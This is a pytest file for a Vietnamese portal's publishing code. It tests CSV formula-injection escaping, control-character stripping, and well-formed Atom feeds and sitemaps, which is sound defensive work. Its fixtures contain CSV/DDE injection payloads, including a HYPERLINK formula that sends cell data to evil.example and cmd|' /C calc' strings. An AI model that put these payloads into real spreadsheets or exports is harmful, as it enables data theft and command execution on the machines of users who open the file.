"""Each output channel has one escaping rule, tested with hostile text: CSV cells never run
as formulas, feeds and sitemaps stay well-formed XML whatever reaches them.

Files are read back by readers that are not ours: the csv module as a spreadsheet's
import does, feedparser and ElementTree for XML.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import xml.etree.ElementTree as ET
from pathlib import Path

import feedparser
import pytest
from sections.samples import AGENCY, SAMPLES, write_sample_portal

from pbgdpl.catalog import Catalog
from pbgdpl.cli import main
from pbgdpl.followup.downloads import csv_text
from pbgdpl.loading.portal import load_portal
from pbgdpl.model.moment import BuildMoment
from pbgdpl.publishing.feeds import FeedScope, atom_feed
from pbgdpl.publishing.manifest import published_files
from pbgdpl.publishing.sitemap import write_sitemap
from pbgdpl.safety.spreadsheet import csv_cell
from pbgdpl.safety.xml_text import xml_text

from conftest import write

FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&A2,"Xem kết quả chấm thi")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
CONTROLS = "Tin\x00 mới\x1b[31m đỏ\x07\x0b\x7f\x85\ufffe hết"


def spreadsheet_cells(text: str) -> list[list[str]]:
    """Read CSV as a spreadsheet's import does (the BOM removed)."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_shown_as_text(formula: str) -> None:
    cell = spreadsheet_cells(csv_text(["tieu_de"], [[formula]]))[1][0]
    assert cell.startswith("'") and cell[1:] == formula


@pytest.mark.parametrize("value", [-5, 12600, 3.5, "-5", "2024-01-01", "Hà Nội", "", None])
def test_numbers_dates_and_text_stay_as_they_are(value: object) -> None:
    assert csv_cell(value) == ("" if value is None else str(value))


def test_control_characters_leave_csv_cells() -> None:
    assert csv_cell(CONTROLS) == "Tin mới[31m đỏ\ufffe hết"


def test_open_data_shows_every_editor_formula_as_text(tmp_path: Path) -> None:
    root = write_sample_portal(tmp_path / "portal", ["van-ban-moi", "tin-tuc"])
    agency = root / "agencies" / AGENCY
    yml = agency / "agency.yml"
    yml.write_text(yml.read_text("utf-8").replace("Tỉnh Mẫu Sơn", "=1+2 Tỉnh Mẫu Sơn"), "utf-8")
    name, text = SAMPLES["van-ban-moi"]
    write(
        agency / "van-ban-moi" / f"{name}.md",
        text.replace("nguoi_ky: Trần Hồng Hà", "nguoi_ky: \"@SUM(1+9)*cmd|' /C calc'!A0\""),
    )
    write(
        agency / "tin-tuc" / "cong-thuc.md",
        '---\ntitle: \'=HYPERLINK("https://evil.example/?d="&A2,"Xem kết quả chấm thi")\'\n'
        "date: 2025-04-20\ndescription: \"+cmd|' /C calc'!A0\"\ntags: ['-2+3', '@a']\n---\nBài.\n",
    )
    out = root / "site"
    assert main(["--root", str(root), "build", "--out", str(out), "--as-of", "2025-06-01"]) == 0
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    for table in ("van-ban.csv", "bai-viet.csv"):
        rows = spreadsheet_cells((out / "du-lieu-mo" / table).read_text("utf-8"))
        assert len(rows) > 1
        assert [c for row in rows for c in row if c.startswith(formula_start)] == [], table
    items = spreadsheet_cells((out / "du-lieu-mo/bai-viet.csv").read_text("utf-8"))
    header = items[0]
    news = next(dict(zip(header, row, strict=True)) for row in items if "cong-thuc" in str(row))
    assert news["title"] == '\'=HYPERLINK("https://evil.example/?d="&A2,"Xem kết quả chấm thi")'
    assert news["description"] == "'+cmd|' /C calc'!A0"
    assert news["tags"] == "'-2+3;@a"


def test_a_control_character_that_reaches_a_feed_leaves_it_well_formed(tmp_path: Path) -> None:
    """Defence in depth: the loader refuses controls; the feed drops any that got past it."""
    root = write_sample_portal(tmp_path / "portal", ["tin-tuc"])
    portal = load_portal(root)
    item = dataclasses.replace(portal.items[0], title=CONTROLS, description=CONTROLS)
    portal.items[0] = item
    catalog = Catalog.from_portal(portal, BuildMoment.now())
    document = atom_feed(catalog, FeedScope("", "Tin\x01 mới", (item,)), dt.date(2025, 6, 1))
    parsed = feedparser.parse(document)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.entries[0].title == "Tin mới[31m đỏ hết"
    assert parsed.feed.title == "Tin mới"
    assert xml_text(CONTROLS) == "Tin mới[31m đỏ hết"


def test_the_sitemap_stays_well_formed_for_any_folder_name(tmp_path: Path) -> None:
    root = write_sample_portal(tmp_path / "portal", ["tin-tuc"])
    catalog = Catalog.from_portal(load_portal(root), BuildMoment.now())
    out = tmp_path / "site"
    for folder in ("", "tin\x01 mới/", "a<b>&\"c'/"):
        write(out / folder / "index.html", "<!doctype html>")
    (sitemap,) = write_sitemap(catalog, [], out, published_files(out))
    addresses = sorted(
        loc.text or ""
        for loc in ET.parse(sitemap).iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")
    )
    assert addresses == [
        "https://thu.example.gov.vn/",
        "https://thu.example.gov.vn/a%3Cb%3E%26%22c%27/",
        "https://thu.example.gov.vn/tin%01%20m%E1%BB%9Bi/",
    ]
